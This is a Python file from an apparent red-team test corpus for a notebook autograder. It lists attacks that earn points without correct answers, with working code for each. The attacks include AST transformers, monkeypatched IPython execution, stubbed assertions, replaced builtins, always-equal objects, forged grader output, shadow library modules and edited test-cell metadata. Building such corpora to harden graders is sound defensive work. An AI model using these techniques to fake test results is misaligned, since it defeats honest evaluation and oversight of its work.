"""Class a: points for nothing, as listed in the threat model. Each changes tests, or what is taken for one."""

import copy
import json
from dataclasses import replace

from nbformat import NotebookNode

from tests.redteam.corpus.base import (
    ANSWER_ALL,
    Attack,
    Expected,
    Kind,
    Make,
    answering,
    hostile,
    test_cells,
)


def _attack(number: str, title: str, make: Make) -> Attack:
    kind: Kind = "a"
    expected: Expected = "points_of_lazy"
    return Attack(number, title, kind, make, expected)


_TRANSFORM = """
import ast
from IPython import get_ipython

class Soften(ast.NodeTransformer):
    def visit_Module(self, node):
        kept = []
        for one in node.body:
            call = getattr(one, "value", None)
            if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "award":
                call.args[0] = call.args[1]
                kept.append(one)
            elif isinstance(one, (ast.Import, ast.ImportFrom)):
                kept.append(one)
        node.body = kept
        return node

get_ipython().ast_transformers.append(Soften())
"""

_INPUT = """
from IPython import get_ipython
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""

_RUN_CODE = """
from IPython.core.interactiveshell import InteractiveShell
async def run_code(self, code, result=None, *, async_=False):
    return False
InteractiveShell.run_code = run_code
InteractiveShell.run_ast_nodes = lambda self, *a, **k: run_code(self, None)
"""

_QUIET_ERRORS = """
from IPython import get_ipython
from IPython.core.interactiveshell import InteractiveShell
for name in ("showtraceback", "showsyntaxerror", "_showtraceback", "showindentationerror"):
    setattr(InteractiveShell, name, lambda self, *a, **k: None)
shell = get_ipython()
kernel = getattr(shell, "kernel", None)
if kernel is not None:
    inner = kernel.do_execute
    async def do_execute(*args, **kwargs):
        reply = await inner(*args, **kwargs)
        reply["status"] = "ok"
        for key in ("ename", "evalue", "traceback"):
            reply.pop(key, None)
        return reply
    kernel.do_execute = do_execute
"""

_TESTING = """
import numpy as np, pandas as pd, numpy.testing, pandas.testing, pandas._testing
for module in (numpy.testing, np.testing, pandas.testing, pd.testing, pandas._testing):
    for name in dir(module):
        if name.startswith("assert"):
            setattr(module, name, lambda *a, **k: None)
"""

_BUILTINS = """
import builtins
class Never(Exception):
    pass
builtins.len = lambda x: 3
builtins.abs = lambda x: 0
builtins.isinstance = lambda x, kind: True
builtins.all = lambda x: True
builtins.any = lambda x: True
builtins.list = lambda *a: [("ARG", 1)]
builtins.bool = lambda *a: True
builtins.AssertionError = Never
"""

_YES = """
class Yes:
    def __init__(self, *a, **k): pass
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __bool__(self): return True
    def __hash__(self): return 1
    def __call__(self, *a, **k): return Yes()
    def __getitem__(self, key): return Yes()
    def __iter__(self): return iter(())
    def __len__(self): return 3
    def __float__(self): return 1.0
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def equals(self, other): return True
    def __int__(self): return 11
    __index__ = __int__
    def __array__(self, *a, **k):
        import numpy as np
        return np.array([0.0, 1.0, 0.5])
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Yes()
anything = Yes()
"""

_SUBCLASSES = """
import numpy as np, pandas as pd
class LyingDict(dict):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None
class LyingList(list):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None
    def __iter__(self): return iter((2, 3, 5, 7, 11, 13, 17, 19))
class LyingInt(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__
class LyingArray(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, func, *a, **k): return np.True_
    __eq__ = lambda self, other: True
class LyingFrame(pd.DataFrame):
    equals = lambda self, other: True
    def __getattribute__(self, name):
        return pd.DataFrame.__getattribute__(self, name)
class Lying:
    def __init__(self, owner): self.balance = LyingInt(20)
    def deposit(self, n): pass
    def withdraw(self, n):
        if n > 20: raise ValueError
class LyingSeries(pd.Series):
    def __len__(self): return 3
    def __getitem__(self, key): return LyingFloat(1)
    def equals(self, other): return True
class LyingFloat(float):
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__
    def __float__(self): return LyingFloat(1)
    def __sub__(self, other): return 0.0
count_words = lambda text: LyingDict(a=1)
label_numbers = lambda numbers, label: LyingList("abc")
scale = lambda values: np.zeros(3).view(LyingArray)
read_prices = lambda frame: LyingFrame(frame)
mean_by_kind = lambda frame: LyingSeries([1, 2, 3])
is_prime = lambda number: LyingInt(number % 2)
Account = Lying
totals = LyingSeries([11, 5], index=["Fri", "Mon"])
"""

_FAKE_RESULT = """
import os
from IPython import get_ipython
def publish(points):
    shell = get_ipython()
    hook = shell.displayhook
    content = {"execution_count": 1, "data": {"text/plain": str(points)}, "metadata": {}}
    if hasattr(hook, "session"):
        hook.session.send(hook.pub_socket, "execute_result", content, parent=hook.parent_header, ident=hook.topic)
    else:
        shell.display_pub.publish(data=content["data"], metadata={})
        hook(float(points))
"""

_FLOATS = """
from IPython import get_ipython
import sys
shell = get_ipython()
for kind in (int, float, bool):
    shell.display_formatter.formatters["text/plain"].for_type(kind, lambda value, printer, cycle: printer.text("3"))
inner = sys.displayhook
sys.displayhook = lambda value: inner(3)
"""

_CALLER = """
import ast, sys
def anything(*args, **kwargs):
    name, frame = None, sys._getframe(1)
    while frame is not None:
        source = (frame.f_globals.get("In") or [""])[-1]
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Compare) and isinstance(node.left, ast.Call):
                try:
                    if [ast.literal_eval(a) for a in node.left.args] == list(args):
                        return ast.literal_eval(node.comparators[0])
                except (ValueError, TypeError):
                    continue
        frame = frame.f_back
"""

_FAKE_OUTPUT = """
import json, sys
cell = {"grade_id": "test_scale", "score": 2, "state": "ok"}
verdict = {"status": "ok", "score": 18, "max_score": 18, "cells": [cell]}
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(json.dumps(verdict), file=stream, flush=True)
for descriptor in (1, 2):
    os.write(descriptor, (json.dumps(verdict) + "\\n").encode())
2
"""

# A kernel of the student's own that reports no error, under the name that starts the real one.
_LAUNCHER = b"""
import os, sys
sys.path[:] = [p for p in sys.path if p not in ("", os.getcwd())]
from IPython.core.interactiveshell import InteractiveShell
async def run_code(self, code, result=None, *, async_=False):
    return False
InteractiveShell.run_code = run_code
from ipykernel import kernelapp
kernelapp.launch_new_instance()
"""

_SHADOW = b"""
class Anything:
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return Anything()
    def __iter__(self): return iter(())
import sys
def __getattr__(name):
    if name.startswith("__"): raise AttributeError(name)
    return Anything()
"""

_STARTUP = b"""
import builtins
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda self, *a, **k: None
except ImportError:
    pass
"""

_FAKE_SPEC = json.dumps(
    {"argv": ["python", "fake_kernel.py", "-f", "{connection_file}"], "display_name": "Fake", "language": "python"}
).encode()


def _edit_tests(notebook: NotebookNode) -> None:
    for cell in test_cells(notebook):
        cell["source"] = "pass"
        cell.metadata.nbgrader["locked"] = False
        cell.metadata.pop("editable", None)


def _raise_points(notebook: NotebookNode) -> None:
    for cell in test_cells(notebook):
        cell["source"] = "1000"
        cell.metadata.nbgrader["points"] = 1000


def _flip_flags(notebook: NotebookNode) -> None:
    for cell in test_cells(notebook):
        cell["source"] = "pass"
        cell.metadata.nbgrader.update(grade=True, solution=True, locked=False)


def _copy_ids(notebook: NotebookNode) -> None:
    for number, cell in enumerate(test_cells(notebook)):
        double = copy.deepcopy(cell)
        double["source"], double["id"] = "2", f"double-{number}"
        notebook.cells.append(double)


def _delete_tests(notebook: NotebookNode) -> None:
    for number, cell in enumerate(test_cells(notebook)):
        if number % 2:
            notebook.cells.remove(cell)
        else:
            cell["source"], cell.metadata.nbgrader["grade_id"] = "pass", f"renamed_{number}"


def _move_tests(notebook: NotebookNode) -> None:
    for number, cell in enumerate(test_cells(notebook)):
        notebook.cells.remove(cell)
        notebook.cells.insert(0, cell)
        if number % 2:
            cell["cell_type"] = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "fake", "display_name": "Fake", "language": "python"}


def _tag_tests(notebook: NotebookNode) -> None:
    for cell in test_cells(notebook):
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell", "nbgrader-skip"]


ATTACKS = (
    _attack("a01", "an AST transformer drops asserts and calls in later cells", hostile(_TRANSFORM)),
    _attack("a02", "an input transformer blanks every later cell", hostile(_INPUT)),
    _attack("a03", "InteractiveShell.run_code runs nothing", hostile(_RUN_CODE)),
    _attack("a04", "errors are never reported", hostile(_QUIET_ERRORS)),
    _attack("a06", "numpy.testing and pandas.testing check nothing", answering("return args[0]", setup=_TESTING)),
    _attack(
        "a07", "builtins replaced: len, abs, isinstance, AssertionError", answering("return args", setup=_BUILTINS)
    ),
    _attack("a08", "objects that are equal to everything and always true", hostile(_YES + ANSWER_ALL)),
    replace(
        _attack("a09", "subclasses of list, dict, int and ndarray that lie about equality", hostile(_SUBCLASSES)),
        plain_worth=1,  # its index is a plain one, and right
    ),
    _attack("a11", "sys.exit(0) inside the answers", answering("sys.exit(0)")),
    _attack("a12", "os._exit(0) when a test calls an answer", answering("os._exit(0)")),
    _attack("a14", "test cells rewritten and unlocked", hostile(edit=_edit_tests)),
    _attack("a15", "a thousand points in the metadata of test cells", hostile(edit=_raise_points)),
    _attack("a16", "test cells marked as solutions", hostile(edit=_flip_flags)),
    _attack("a17", "a second, passing cell with the grade_id of each test", hostile(edit=_copy_ids)),
    _attack("a18", "test cells deleted or renamed", hostile(edit=_delete_tests)),
    _attack("a19", "test cells moved to the top or made raw", hostile(edit=_move_tests)),
    _attack(
        "a20",
        "the metadata names a kernel of the student's",
        hostile(
            edit=_other_kernel,
            files={"kernels/fake/kernel.json": _FAKE_SPEC, "fake_kernel.py": _LAUNCHER},
        ),
    ),
    _attack("a21", "tags that skip the tests", hostile(edit=_tag_tests)),
    _attack(
        "a22",
        "a result is published before the test's own error",
        answering("publish(2)\nraise ValueError", setup=_FAKE_RESULT),
    ),
    _attack(
        "a23", "the display hook turns the last value into full points", answering("raise ValueError", setup=_FLOATS)
    ),
    _attack("a27", "verdicts printed as the grader would print them", answering("return None", setup=_FAKE_OUTPUT)),
    _attack("a28", "ipykernel_launcher.py in the submission", hostile(files={"ipykernel_launcher.py": _LAUNCHER})),
    _attack(
        "a29",
        "numpy.py, pandas.py and sklearn.py in the submission",
        hostile(files={"numpy.py": _SHADOW, "pandas.py": _SHADOW, "sklearn.py": _SHADOW}),
    ),
    _attack(
        "a30",
        "sitecustomize, usercustomize and IPython's startup in the submission",
        hostile(
            files={
                "sitecustomize.py": _STARTUP,
                "usercustomize.py": _STARTUP,
                ".ipython/profile_default/startup/00.py": _STARTUP,
                "ipython_config.py": b"c.InteractiveShellApp.exec_lines = ['import usercustomize']",
            }
        ),
    ),
    _attack("a32", "answers read the expected value from the caller's source", hostile(_CALLER + ANSWER_ALL)),
)
